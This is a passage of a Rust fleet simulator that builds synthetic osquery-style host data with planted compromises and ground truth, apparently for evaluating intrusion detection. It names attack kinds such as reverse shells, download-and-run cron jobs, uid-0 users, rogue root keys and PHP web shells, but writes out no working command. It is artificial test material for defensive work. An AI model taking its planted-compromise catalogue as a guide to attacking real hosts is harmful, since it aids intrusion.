//! A fleet simulator with ground truth, for judging the analysis.
//!
//! It models what an Auto Scaling group of one image looks like through the
//! standard query pack (osquery's row shape, all values strings):
//!
//! - one base image: ~30 users, ~60 kernel modules, ~180 processes (kernel
//!   threads, system daemons, an app, nginx, containers), listeners, cron,
//!   keys, hashes of system binaries, setuid binaries, startup items;
//! - per-host noise that real fleets have: pids, parents, start times and
//!   resource columns; kernel worker names; container ids; ephemeral UDP and
//!   JMX ports; listeners bound to the host's own address; the host's own name
//!   in command lines; cron minutes jittered by configuration management;
//!   transient processes caught mid-run (health checks, logrotate, apt);
//!   occasional admin sessions, debug cron entries, on-demand kernel modules
//!   (someone ran iptables), shell history files, and queries that failed;
//! - legitimate cohorts: a canary of the next app version (new binary hash, a
//!   new sidecar process and listener, a new flag), and optionally hosts of
//!   another instance type (another NIC driver);
//! - planted compromises, each with its own random artifacts;
//! - campaigns: one compromise run across many hosts, the same artifact on
//!   each (one IP, one key, one module name), on a share of the fleet chosen
//!   among the hosts of the old version (what one exploit reaches).
//!
//! File hashes carry `package_check` as the shell pack reports it: `ok` when
//! the file matches the checksum its package recorded, `mismatch` when it
//! does not (a replaced binary), `unpackaged` for files no package owns.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::io::Write;
use std::path::Path;

use rand::rngs::SmallRng;
use rand::seq::{IndexedRandom, SliceRandom};
use rand::{Rng, SeedableRng};
use rayon::prelude::*;
use serde::Serialize;

/// One row, osquery-style.
pub type Row = BTreeMap<String, String>;

/// A kind of planted compromise.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Compromise {
    /// A reverse shell spawned by the web server's user.
    ReverseShell,
    /// A high-port listener whose binary lives under `/tmp`.
    TmpListener,
    /// A cron entry that downloads and runs a script.
    MaliciousCron,
    /// An extra kernel module with an innocuous name.
    KernelModule,
    /// An extra authorized key for root.
    RootKey,
    /// A new user with uid 0.
    Uid0User,
    /// A modified system binary (different SHA-256).
    ModifiedBinary,
    /// A PHP web shell serving on a new port.
    WebShell,
}

impl Compromise {
    /// Every kind.
    pub const ALL: [Compromise; 8] = [
        Compromise::ReverseShell,
        Compromise::TmpListener,
        Compromise::MaliciousCron,
        Compromise::KernelModule,
        Compromise::RootKey,
        Compromise::Uid0User,
        Compromise::ModifiedBinary,
        Compromise::WebShell,
    ];

    /// The query whose rows show it.
    pub fn query(self) -> &'static str {
        match self {
            Compromise::ReverseShell => "processes",
            Compromise::TmpListener => "listening_ports",
            Compromise::MaliciousCron => "crontab",
            Compromise::KernelModule => "kernel_modules",
            Compromise::RootKey => "authorized_keys",
            Compromise::Uid0User => "users",
            Compromise::ModifiedBinary => "file_hashes",
            Compromise::WebShell => "listening_ports",
        }
    }
}

impl fmt::Display for Compromise {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Compromise::ReverseShell => "reverse_shell",
            Compromise::TmpListener => "tmp_listener",
            Compromise::MaliciousCron => "malicious_cron",
            Compromise::KernelModule => "kernel_module",
            Compromise::RootKey => "root_key",
            Compromise::Uid0User => "uid0_user",
            Compromise::ModifiedBinary => "modified_binary",
            Compromise::WebShell => "web_shell",
        })
    }
}

/// What to simulate.
#[derive(Clone, Debug)]
pub struct FleetSpec {
    /// Number of hosts.
    pub hosts: usize,
    /// Seed; the same spec and seed give the same fleet.
    pub seed: u64,
    /// Fraction of hosts in the canary cohort (rounded up; 0 for none).
    pub canary: f64,
    /// Fraction of hosts of another instance type (rounded up; 0 for none).
    pub other_instance_type: f64,
    /// Compromises to plant, each on its own host.
    pub compromises: Vec<Compromise>,
    /// Campaigns: each compromise with one artifact on this share of the
    /// fleet's hosts (rounded, at least 2), chosen outside the canary.
    pub campaigns: Vec<(Compromise, f64)>,
    /// Whether to add per-host noise events (admin sessions, transient
    /// processes, on-demand modules, failed queries).
    pub noise: bool,
    /// Whether host files carry `labels`.
    pub labels: bool,
}

impl FleetSpec {
    /// A fleet of `hosts` with a 10 % canary, noise, and compromises: three
    /// for small fleets (kinds chosen by the seed), every kind once from 50
    /// hosts, twice from 1,000.
    pub fn new(hosts: usize, seed: u64) -> Self {
        let compromises = if hosts < 50 {
            let mut all = Compromise::ALL.to_vec();
            all.shuffle(&mut SmallRng::seed_from_u64(seed ^ 0xc0ffee));
            all.truncate(3.min(hosts / 4));
            all
        } else if hosts < 1000 {
            Compromise::ALL.to_vec()
        } else {
            Compromise::ALL.iter().chain(Compromise::ALL.iter()).copied().collect()
        };
        Self {
            hosts,
            seed,
            canary: 0.10,
            other_instance_type: 0.0,
            compromises,
            campaigns: Vec::new(),
            noise: true,
            labels: false,
        }
    }

    /// Adds a campaign: `kind` with one artifact on `share` of the hosts.
    pub fn campaign(mut self, kind: Compromise, share: f64) -> Self {
        self.campaigns.push((kind, share));
        self
    }

    /// Sets the compromises.
    pub fn compromises(mut self, c: Vec<Compromise>) -> Self {
        self.compromises = c;
        self
    }

    /// Sets the canary fraction.
    pub fn canary(mut self, f: f64) -> Self {
        self.canary = f;
        self
    }

    /// Sets the fraction of hosts of another instance type.
    pub fn other_instance_type(mut self, f: f64) -> Self {
        self.other_instance_type = f;
        self
    }

    /// Turns noise events on or off.
    pub fn noise(mut self, on: bool) -> Self {
        self.noise = on;
        self
    }

    /// Adds labels to host files.
    pub fn labels(mut self, on: bool) -> Self {
        self.labels = on;
        self
    }
}

/// What is true of a simulated fleet.
#[derive(Clone, Debug, Default, Serialize)]
pub struct Truth {
    /// Every host id, in order.
    pub hosts: Vec<String>,
    /// Compromised hosts and what was planted.
    pub compromised: BTreeMap<String, Compromise>,
    /// Canary hosts.
    pub canary: BTreeSet<String>,
    /// Hosts of the other instance type.
    pub other_instance_type: BTreeSet<String>,
    /// Each campaign's kind and hosts (also in `compromised`).
    pub campaigns: Vec<(Compromise, BTreeSet<String>)>,
}

impl Truth {
    /// Whether `host` is clean.
    pub fn is_clean(&self, host: &str) -> bool {
        !self.compromised.contains_key(host)
    }
}

/// One simulated host.
#[derive(Clone, Debug, Serialize)]
pub struct SimHost {
    /// Its instance id.
    pub instance_id: String,
    /// Its labels (when the spec asks for them).
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub labels: BTreeMap<String, String>,
    /// Its results: rows per query, or an `{"error": ...}` object.
    pub results: BTreeMap<String, serde_json::Value>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    Clean,
    Canary,
}

struct Plan {
    ids: Vec<String>,
    roles: Vec<Role>,
    other_type: Vec<bool>,
    /// What each host has planted, and the campaign it belongs to.
    planted: Vec<Option<(Compromise, Option<usize>)>>,
}

fn plan(spec: &FleetSpec) -> Plan {
    let mut rng = SmallRng::seed_from_u64(spec.seed);
    let ids: Vec<String> =
        (0..spec.hosts).map(|i| format!("i-{:017x}", splitmix(spec.seed ^ (i as u64 + 1)) >> 4)).collect();
    let mut order: Vec<usize> = (0..spec.hosts).collect();
    order.shuffle(&mut rng);
    let take = |f: f64| if f <= 0.0 { 0 } else { ((f * spec.hosts as f64).ceil() as usize).max(1) };
    let n_canary = take(spec.canary);
    let n_other = take(spec.other_instance_type);
    let mut roles = vec![Role::Clean; spec.hosts];
    let mut other_type = vec![false; spec.hosts];
    let mut planted = vec![None; spec.hosts];
    let mut it = order.into_iter();
    for i in it.by_ref().take(n_canary) {
        roles[i] = Role::Canary;
    }
    for i in it.by_ref().take(n_other) {
        other_type[i] = true;
    }
    // Compromises land on any hosts not chosen above, and, when the fleet is
    // large enough, one of them inside the canary: attackers do not avoid cohorts.
    let mut rest: Vec<usize> = it.collect();
    let canary_hosts: Vec<usize> = (0..spec.hosts).filter(|&i| roles[i] == Role::Canary).collect();
    for (n, c) in spec.compromises.iter().enumerate() {
        let host = if n == 1 && canary_hosts.len() >= 5 {
            canary_hosts[0]
        } else {
            match rest.pop() {
                Some(h) => h,
                None => break,
            }
        };
        planted[host] = Some((*c, None));
    }
    // Campaigns reach hosts of the old version: first the other instance
    // type's and the clean ones left, in random order.
    rest.retain(|&h| planted[h].is_none());
    for (n, (c, share)) in spec.campaigns.iter().enumerate() {
        let want = ((share * spec.hosts as f64).round() as usize).max(2);
        assert!(rest.len() >= want, "campaign {n} ({c}, {share}) needs {want} hosts; {} are left", rest.len());
        for h in rest.split_off(rest.len() - want) {
            planted[h] = Some((*c, Some(n)));
        }
    }
    Plan { ids, roles, other_type, planted }
}

fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e3779b97f4a7c15);
    let mut z = x;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
    z ^ (z >> 31)
}

/// Builds the whole fleet in memory (for tests; see [`write_fleet`] for large ones).
pub fn generate(spec: &FleetSpec) -> (Vec<SimHost>, Truth) {
    let p = plan(spec);
    let hosts: Vec<SimHost> = (0..spec.hosts).into_par_iter().map(|i| host(spec, &p, i)).collect();
    (hosts, truth(spec, &p))
}

fn truth(spec: &FleetSpec, p: &Plan) -> Truth {
    let mut t = Truth { hosts: p.ids.clone(), ..Default::default() };
    for i in 0..spec.hosts {
        if let Some((c, campaign)) = p.planted[i] {
            t.compromised.insert(p.ids[i].clone(), c);
            if let Some(n) = campaign {
                if t.campaigns.len() <= n {
                    t.campaigns.resize(n + 1, (c, BTreeSet::new()));
                }
                t.campaigns[n].0 = c;
                t.campaigns[n].1.insert(p.ids[i].clone());
            }
        }
        if p.roles[i] == Role::Canary {
            t.canary.insert(p.ids[i].clone());
        }
        if p.other_type[i] {
            t.other_instance_type.insert(p.ids[i].clone());
        }
    }
    t
}

/// Writes `DIR/hosts/<id>.json` for every host (in parallel, without holding
/// the fleet in memory), `DIR/truth.json`, and, with `baseline`, a
/// `DIR/baseline.json` from a clean host of the image. Returns the truth.
pub fn write_fleet(spec: &FleetSpec, dir: &Path, baseline: bool) -> std::io::Result<Truth> {
    let p = plan(spec);
    let hosts_dir = dir.join("hosts");
    std::fs::create_dir_all(&hosts_dir)?;
    (0..spec.hosts).into_par_iter().try_for_each(|i| -> std::io::Result<()> {
        let h = host(spec, &p, i);
        let mut f = std::io::BufWriter::new(std::fs::File::create(hosts_dir.join(format!("{}.json", h.instance_id)))?);
        serde_json::to_writer(&mut f, &h)?;
        f.flush()
    })?;
    let t = truth(spec, &p);
    std::fs::write(dir.join("truth.json"), serde_json::to_vec_pretty(&t)?)?;
    if baseline {
        let clean = FleetSpec {
            hosts: 1,
            seed: spec.seed ^ 0xba5e,
            canary: 0.0,
            other_instance_type: 0.0,
            compromises: vec![],
            campaigns: vec![],
            noise: false,
            labels: false,
        };
        let bp = plan(&clean);
        let b = host(&clean, &bp, 0);
        std::fs::write(dir.join("baseline.json"), serde_json::to_vec(&b)?)?;
    }
    Ok(t)
}

/// Random hex of `n` characters.
fn hex(rng: &mut SmallRng, n: usize) -> String {
    (0..n).map(|_| char::from_digit(rng.random_range(0..16), 16).unwrap()).collect()
}

fn b64(rng: &mut SmallRng, n: usize) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..n).map(|_| A[rng.random_range(0..64)] as char).collect()
}

fn row(pairs: &[(&str, String)]) -> Row {
    pairs.iter().map(|(k, v)| (k.to_string(), v.clone())).collect()
}

/// A stable hash of a name, so that every host of the image agrees on it.
fn image_hash(name: &str) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(format!("image-v7:{name}").as_bytes()))
}

const USERS: &[(&str, u32, u32, &str, &str, &str)] = &[
    ("root", 0, 0, "root", "/root", "/bin/bash"),
    ("daemon", 1, 1, "daemon", "/usr/sbin", "/usr/sbin/nologin"),
    ("bin", 2, 2, "bin", "/bin", "/usr/sbin/nologin"),
    ("sys", 3, 3, "sys", "/dev", "/usr/sbin/nologin"),
    ("sync", 4, 65534, "sync", "/bin", "/bin/sync"),
    ("games", 5, 60, "games", "/usr/games", "/usr/sbin/nologin"),
    ("man", 6, 12, "man", "/var/cache/man", "/usr/sbin/nologin"),
    ("lp", 7, 7, "lp", "/var/spool/lpd", "/usr/sbin/nologin"),
    ("mail", 8, 8, "mail", "/var/mail", "/usr/sbin/nologin"),
    ("news", 9, 9, "news", "/var/spool/news", "/usr/sbin/nologin"),
    ("uucp", 10, 10, "uucp", "/var/spool/uucp", "/usr/sbin/nologin"),
    ("proxy", 13, 13, "proxy", "/bin", "/usr/sbin/nologin"),
    ("www-data", 33, 33, "www-data", "/var/www", "/usr/sbin/nologin"),
    ("backup", 34, 34, "backup", "/var/backups", "/usr/sbin/nologin"),
    ("list", 38, 38, "Mailing List Manager", "/var/list", "/usr/sbin/nologin"),
    ("irc", 39, 39, "ircd", "/run/ircd", "/usr/sbin/nologin"),
    ("_apt", 42, 65534, "", "/nonexistent", "/usr/sbin/nologin"),
    ("nobody", 65534, 65534, "nobody", "/nonexistent", "/usr/sbin/nologin"),
    ("systemd-network", 998, 998, "systemd Network Management", "/", "/usr/sbin/nologin"),
    ("systemd-timesync", 997, 997, "systemd Time Synchronization", "/", "/usr/sbin/nologin"),
    ("messagebus", 100, 106, "", "/nonexistent", "/usr/sbin/nologin"),
    ("systemd-resolve", 996, 996, "systemd Resolver", "/", "/usr/sbin/nologin"),
    ("sshd", 101, 65534, "", "/run/sshd", "/usr/sbin/nologin"),
    ("chrony", 102, 108, "Chrony daemon", "/var/lib/chrony", "/usr/sbin/nologin"),
    ("dd-agent", 995, 995, "Datadog Agent", "/opt/datadog-agent", "/usr/sbin/nologin"),
    ("app", 994, 994, "application", "/opt/app", "/usr/sbin/nologin"),
    ("nginx", 993, 993, "nginx", "/var/lib/nginx", "/usr/sbin/nologin"),
    ("ec2-user", 1000, 1000, "EC2 Default User", "/home/ec2-user", "/bin/bash"),
    ("ssm-user", 1001, 1001, "", "/home/ssm-user", "/bin/sh"),
];

const MODULES: &[&str] = &[
    "ena",
    "nvme",
    "nvme_core",
    "xfs",
    "ext4",
    "jbd2",
    "mbcache",
    "crc32c_intel",
    "crc32_pclmul",
    "crct10dif_pclmul",
    "ghash_clmulni_intel",
    "aesni_intel",
    "crypto_simd",
    "cryptd",
    "libcrc32c",
    "crc16",
    "sha512_ssse3",
    "sha256_ssse3",
    "serio_raw",
    "psmouse",
    "i2c_piix4",
    "button",
    "evdev",
    "pcspkr",
    "sunrpc",
    "ip_tables",
    "x_tables",
    "autofs4",
    "overlay",
    "br_netfilter",
    "bridge",
    "stp",
    "llc",
    "veth",
    "xt_conntrack",
    "xt_MASQUERADE",
    "nf_conntrack_netlink",
    "nfnetlink",
    "xt_addrtype",
    "iptable_filter",
    "iptable_nat",
    "nf_nat",
    "nf_conntrack",
    "nf_defrag_ipv6",
    "nf_defrag_ipv4",
    "ipv6",
    "dm_mod",
    "dax",
    "loop",
    "configfs",
    "efi_pstore",
    "drm",
    "fuse",
    "tls",
    "binfmt_misc",
    "intel_rapl_msr",
    "intel_rapl_common",
    "rapl",
    "ata_piix",
    "libata",
    "scsi_mod",
];

const SYSTEM_BINARIES: &[&str] = &[
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/ls",
    "/usr/bin/ps",
    "/usr/bin/top",
    "/usr/bin/login",
    "/usr/bin/su",
    "/usr/bin/sudo",
    "/usr/bin/passwd",
    "/usr/bin/ssh",
    "/usr/sbin/sshd",
    "/usr/bin/ss",
    "/usr/bin/netstat",
    "/usr/bin/find",
    "/usr/bin/crontab",
    "/usr/sbin/cron",
    "/usr/bin/mount",
    "/usr/bin/kill",
    "/usr/bin/who",
    "/usr/bin/w",
    "/usr/bin/last",
    "/usr/bin/lsof",
    "/usr/bin/id",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/systemctl",
    "/usr/sbin/ip",
    "/usr/bin/dash",
];

const SUID: &[&str] = &[
    "/usr/bin/su",
    "/usr/bin/sudo",
    "/usr/bin/passwd",
    "/usr/bin/mount",
    "/usr/bin/umount",
    "/usr/bin/chsh",
    "/usr/bin/chfn",
    "/usr/bin/newgrp",
    "/usr/bin/gpasswd",
    "/usr/bin/pkexec",
    "/usr/lib/openssh/ssh-keysign",
    "/usr/lib/dbus-1.0/dbus-daemon-launch-helper",
    "/usr/bin/fusermount3",
    "/usr/bin/crontab",
    "/usr/bin/expiry",
];

const SERVICES: &[&str] = &[
    "ssh.service",
    "cron.service",
    "rsyslog.service",
    "chrony.service",
    "amazon-ssm-agent.service",
    "docker.service",
    "containerd.service",
    "nginx.service",
    "app.service",
    "datadog-agent.service",
    "auditd.service",
    "systemd-networkd.service",
    "systemd-resolved.service",
    "systemd-timesyncd.service",
    "e2scrub_reap.service",
    "getty@tty1.service",
    "serial-getty@ttyS0.service",
    "unattended-upgrades.service",
    "apparmor.service",
    "cloud-init.service",
    "cloud-config.service",
    "cloud-final.service",
    "node-exporter.service",
    "filebeat.service",
    "remote-fs.target",
];

struct Ctx<'a> {
    rng: SmallRng,
    id: &'a str,
    ip: [u8; 4],
    next_pid: u32,
    boot: u64,
}

impl Ctx<'_> {
    fn pid(&mut self) -> String {
        self.next_pid += self.rng.random_range(1..40);
        self.next_pid.to_string()
    }

    fn node(&self) -> String {
        format!("ip-{}-{}-{}-{}", self.ip[0], self.ip[1], self.ip[2], self.ip[3])
    }

    fn process(&mut self, parent: &str, uid: u32, name: &str, path: &str, cmdline: &str) -> Row {
        let pid = self.pid();
        let start = self.boot + self.rng.random_range(5..40_000);
        row(&[
            ("pid", pid),
            ("parent", parent.to_string()),
            ("uid", uid.to_string()),
            ("gid", uid.to_string()),
            ("name", name.to_string()),
            ("path", path.to_string()),
            ("cmdline", cmdline.to_string()),
            ("state", ["S", "S", "S", "R", "I"].choose(&mut self.rng).unwrap().to_string()),
            ("start_time", start.to_string()),
            ("resident_size", (self.rng.random_range(1_000..900_000u64) * 1024).to_string()),
            ("threads", self.rng.random_range(1..40).to_string()),
            ("nice", "0".into()),
            ("on_disk", "1".into()),
            ("cwd", if uid == 0 { "/" } else { "/var/lib" }.to_string()),
            ("root", "/".into()),
            ("euid", uid.to_string()),
            ("egid", uid.to_string()),
            ("pgroup", pid_group(parent)),
            ("user_time", self.rng.random_range(0..500_000u64).to_string()),
            ("system_time", self.rng.random_range(0..200_000u64).to_string()),
            ("disk_bytes_read", (self.rng.random_range(0..50_000u64) * 4096).to_string()),
            ("total_size", (self.rng.random_range(1_000..2_000_000u64) * 1024).to_string()),
        ])
    }
}

fn pid_group(parent: &str) -> String {
    if parent == "0" || parent == "1" || parent == "2" { "1".into() } else { parent.to_string() }
}

fn listener(pid: &str, port: u32, protocol: &str, address: &str, name: &str, path: &str) -> Row {
    row(&[
        ("pid", pid.to_string()),
        ("port", port.to_string()),
        ("protocol", protocol.to_string()),
        ("family", if address.contains(':') { "10" } else { "2" }.to_string()),
        ("address", address.to_string()),
        ("name", name.to_string()),
        ("path", path.to_string()),
        ("fd", "3".into()),
        ("socket", "0".into()),
    ])
}

fn cron(min: &str, hour: &str, command: &str, path: &str) -> Row {
    row(&[
        ("event", String::new()),
        ("minute", min.to_string()),
        ("hour", hour.to_string()),
        ("day_of_month", "*".into()),
        ("month", "*".into()),
        ("day_of_week", "*".into()),
        ("command", command.to_string()),
        ("path", path.to_string()),
    ])
}

fn key_row(uid: u32, user: &str, file: &str, options: &str, key: &str, comment: &str) -> Row {
    row(&[
        ("uid", uid.to_string()),
        ("username", user.to_string()),
        ("key_file", file.to_string()),
        ("options", options.to_string()),
        ("algorithm", if key.starts_with("AAAAC3") { "ssh-ed25519" } else { "ssh-rsa" }.to_string()),
        ("key", key.to_string()),
        ("comment", comment.to_string()),
    ])
}

fn team_key(name: &str) -> String {
    format!("AAAAC3NzaC1lZDI1NTE5AAAAI{}", &image_hash(name)[..43])
}

fn host(spec: &FleetSpec, p: &Plan, i: usize) -> SimHost {
    let id = &p.ids[i];
    let mut rng = SmallRng::seed_from_u64(splitmix(spec.seed.wrapping_mul(31) ^ i as u64));
    let ip = [10, rng.random_range(0..4), rng.random_range(0..255), rng.random_range(1..255)];
    let boot = 1_763_000_000 + rng.random_range(0..2_000_000);
    let mut c = Ctx { rng, id, ip, next_pid: 1, boot };
    let canary = p.roles[i] == Role::Canary;
    let other_type = p.other_type[i];
    let planted = p.planted[i];
    let mut r: BTreeMap<&str, Vec<Row>> = BTreeMap::new();

    // users
    let mut users: Vec<Row> = USERS
        .iter()
        .map(|(u, uid, gid, d, home, sh)| {
            row(&[
                ("username", u.to_string()),
                ("uid", uid.to_string()),
                ("gid", gid.to_string()),
                ("description", d.to_string()),
                ("directory", home.to_string()),
                ("shell", sh.to_string()),
            ])
        })
        .collect();

    // kernel modules
    let mut modules: Vec<&str> = MODULES.to_vec();
    if other_type {
        modules.retain(|m| *m != "ena");
        modules.push("ixgbevf");
    }
    let mut kmods: Vec<Row> = modules
        .iter()
        .map(|m| {
            let size = 8192 * (1 + (image_hash(m).as_bytes()[0] as u64 % 40));
            row(&[
                ("name", m.to_string()),
                ("size", size.to_string()),
                ("used_by", if c.rng.random_bool(0.3) { "-".into() } else { c.rng.random_range(0..4).to_string() }),
                ("status", "Live".into()),
                ("address", format!("0xffffffffc0{:06x}000", c.rng.random_range(0..0xffffffu32))),
            ])
        })
        .collect();

    // processes
    let mut procs = Vec::new();
    procs.push(c.process("0", 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init"));
    procs.push(c.process("0", 0, "kthreadd", "", ""));
    let cpus = if other_type { 4 } else { 2 };
    for cpu in 0..cpus {
        for k in ["cpuhp/", "migration/", "ksoftirqd/", "idle_inject/"] {
            procs.push(c.process("2", 0, &format!("{k}{cpu}"), "", ""));
        }
        for _ in 0..c.rng.random_range(3..8) {
            let name = format!(
                "kworker/{cpu}:{}{}",
                c.rng.random_range(0..4),
                ["", "H", "-events", "-mm_percpu_wq", "-cgroup_destroy", "-xfs-conv/nvme0n1p1"]
                    .choose(&mut c.rng)
                    .unwrap()
            );
            procs.push(c.process("2", 0, &name, "", ""));
        }
    }
    for k in [
        "rcu_gp",
        "rcu_par_gp",
        "slub_flushwq",
        "netns",
        "mm_percpu_wq",
        "rcu_tasks_kthread",
        "rcu_preempt",
        "kdevtmpfs",
        "inet_frag_wq",
        "kauditd",
        "khungtaskd",
        "oom_reaper",
        "writeback",
        "kcompactd0",
        "ksmd",
        "khugepaged",
        "kintegrityd",
        "kblockd",
        "blkcg_punt_bio",
        "ata_sff",
        "md",
        "edac-poller",
        "watchdogd",
        "kswapd0",
        "ecryptfs-kthread",
        "kthrotld",
        "nvme-wq",
        "nvme-reset-wq",
        "nvme-delete-wq",
        "xfsalloc",
        "xfs_mru_cache",
        "jbd2/nvme0n1p1-8",
        "ext4-rsv-conver",
        "ipv6_addrconf",
        "kstrp",
        "zswap-shrink",
        "charger_manager",
    ] {
        procs.push(c.process("2", 0, k, "", ""));
    }
    for _ in 0..c.rng.random_range(8..20) {
        let name = format!(
            "kworker/u{}:{}-{}",
            cpus * 2,
            c.rng.random_range(0..9),
            ["events_unbound", "flush-259:0", "writeback", "xfs-cil/nvme0n1p1", "ext4-rsv-conversion"]
                .choose(&mut c.rng)
                .unwrap()
        );
        procs.push(c.process("2", 0, &name, "", ""));
    }
    let sys: &[(&str, &str, &str, u32)] = &[
        ("systemd-journal", "/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald", 0),
        ("systemd-udevd", "/usr/lib/systemd/systemd-udevd", "/lib/systemd/systemd-udevd", 0),
        ("systemd-network", "/usr/lib/systemd/systemd-networkd", "/lib/systemd/systemd-networkd", 998),
        ("systemd-resolve", "/usr/lib/systemd/systemd-resolved", "/lib/systemd/systemd-resolved", 996),
        ("systemd-logind", "/usr/lib/systemd/systemd-logind", "/lib/systemd/systemd-logind", 0),
        (
            "dbus-daemon",
            "/usr/bin/dbus-daemon",
            "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
            100,
        ),
        ("chronyd", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", 102),
        ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f", 0),
        ("rsyslogd", "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", 0),
        ("auditd", "/usr/sbin/auditd", "/sbin/auditd", 0),
        ("amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", "/usr/bin/amazon-ssm-agent", 0),
        ("ssm-agent-worke", "/usr/bin/ssm-agent-worker", "/usr/bin/ssm-agent-worker", 0),
        ("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", 0),
        ("agetty", "/usr/sbin/agetty", "/sbin/agetty -o -p -- \\u --noclear - linux", 0),
        ("agetty", "/usr/sbin/agetty", "/sbin/agetty -o -p -- \\u --keep-baud 115200,57600,38400,9600 - vt220", 0),
        ("containerd", "/usr/bin/containerd", "/usr/bin/containerd", 0),
        ("dockerd", "/usr/bin/dockerd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock", 0),
        ("node_exporter", "/usr/local/bin/node_exporter", "/usr/local/bin/node_exporter --collector.systemd", 65534),
        (
            "filebeat",
            "/usr/share/filebeat/bin/filebeat",
            "/usr/share/filebeat/bin/filebeat --environment systemd -c /etc/filebeat/filebeat.yml",
            0,
        ),
        (
            "agent",
            "/opt/datadog-agent/bin/agent/agent",
            "/opt/datadog-agent/bin/agent/agent run -p /opt/datadog-agent/run/agent.pid",
            995,
        ),
        (
            "trace-agent",
            "/opt/datadog-agent/embedded/bin/trace-agent",
            "/opt/datadog-agent/embedded/bin/trace-agent --config /etc/datadog-agent/datadog.yaml",
            995,
        ),
        (
            "networkd-dispat",
            "/usr/bin/python3.11",
            "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
            0,
        ),
    ];
    for (name, path, cmd, uid) in sys {
        procs.push(c.process("1", *uid, name, path, cmd));
    }
    let node = c.node();
    procs.push(c.process(
        "1",
        0,
        "consul",
        "/usr/local/bin/consul",
        &format!(
            "/usr/local/bin/consul agent -config-dir=/etc/consul.d -node={node} -bind={}.{}.{}.{}",
            ip[0], ip[1], ip[2], ip[3]
        ),
    ));
    let nginx = c.process(
        "1",
        0,
        "nginx",
        "/usr/sbin/nginx",
        "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
    );
    let nginx_pid = nginx["pid"].clone();
    procs.push(nginx);
    for _ in 0..2 {
        procs.push(c.process(&nginx_pid, 993, "nginx", "/usr/sbin/nginx", "nginx: worker process"));
    }
    let flags = if canary { " --feature-flags=new-checkout" } else { "" };
    let java_cmd = format!(
        "/usr/lib/jvm/java-17/bin/java -Xms2g -Xmx2g -Dcom.sun.management.jmxremote.port=0 -jar /opt/app/app.jar --server.port=8080{flags}"
    );
    let java = c.process("1", 994, "java", "/usr/lib/jvm/java-17/bin/java", &java_cmd);
    let java_pid = java["pid"].clone();
    procs.push(java);
    for _ in 0..3 {
        let cid = hex(&mut c.rng, 64);
        procs.push(c.process(
            "1",
            0,
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            &format!(
                "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {cid} -address /run/containerd/containerd.sock"
            ),
        ));
    }
    let fluent = format!("/opt/fluent-bit/bin/fluent-bit -c /etc/fluent-bit/fluent-bit.conf -p record=host:{}", c.id);
    procs.push(c.process("1", 0, "fluent-bit", "/opt/fluent-bit/bin/fluent-bit", &fluent));
    procs.push(c.process("1", 65534, "redis-server", "/usr/local/bin/redis-server", "redis-server *:6379"));
    let mut envoy_pid = String::new();
    if canary {
        let e = c.process(
            "1",
            994,
            "envoy",
            "/usr/local/bin/envoy",
            "/usr/local/bin/envoy -c /etc/envoy/envoy.yaml --service-cluster app",
        );
        envoy_pid = e["pid"].clone();
        procs.push(e);
    }

    // listeners
    let sshd_pid = procs.iter().find(|r| r["name"] == "sshd").unwrap()["pid"].clone();
    let chrony_pid = procs.iter().find(|r| r["name"] == "chronyd").unwrap()["pid"].clone();
    let consul_pid = procs.iter().find(|r| r["name"] == "consul").unwrap()["pid"].clone();
    let resolved_pid = procs.iter().find(|r| r["name"] == "systemd-resolve").unwrap()["pid"].clone();
    let exporter_pid = procs.iter().find(|r| r["name"] == "node_exporter").unwrap()["pid"].clone();
    let redis_pid = procs.iter().find(|r| r["name"] == "redis-server").unwrap()["pid"].clone();
    let own_ip = format!("{}.{}.{}.{}", ip[0], ip[1], ip[2], ip[3]);
    let mut ports = vec![
        listener(&sshd_pid, 22, "6", "0.0.0.0", "sshd", "/usr/sbin/sshd"),
        listener(&sshd_pid, 22, "6", "::", "sshd", "/usr/sbin/sshd"),
        listener(&nginx_pid, 80, "6", "0.0.0.0", "nginx", "/usr/sbin/nginx"),
        listener(&nginx_pid, 443, "6", "0.0.0.0", "nginx", "/usr/sbin/nginx"),
        listener(&java_pid, 8080, "6", "::", "java", "/usr/lib/jvm/java-17/bin/java"),
        listener(&java_pid, c.rng.random_range(32768..60999), "6", "::", "java", "/usr/lib/jvm/java-17/bin/java"),
        listener(&exporter_pid, 9100, "6", "::", "node_exporter", "/usr/local/bin/node_exporter"),
        listener(&redis_pid, 6379, "6", "127.0.0.1", "redis-server", "/usr/local/bin/redis-server"),
        listener(&chrony_pid, 323, "17", "127.0.0.1", "chronyd", "/usr/sbin/chronyd"),
        listener(&chrony_pid, 323, "17", "::1", "chronyd", "/usr/sbin/chronyd"),
        listener(&chrony_pid, c.rng.random_range(32768..60999), "17", "0.0.0.0", "chronyd", "/usr/sbin/chronyd"),
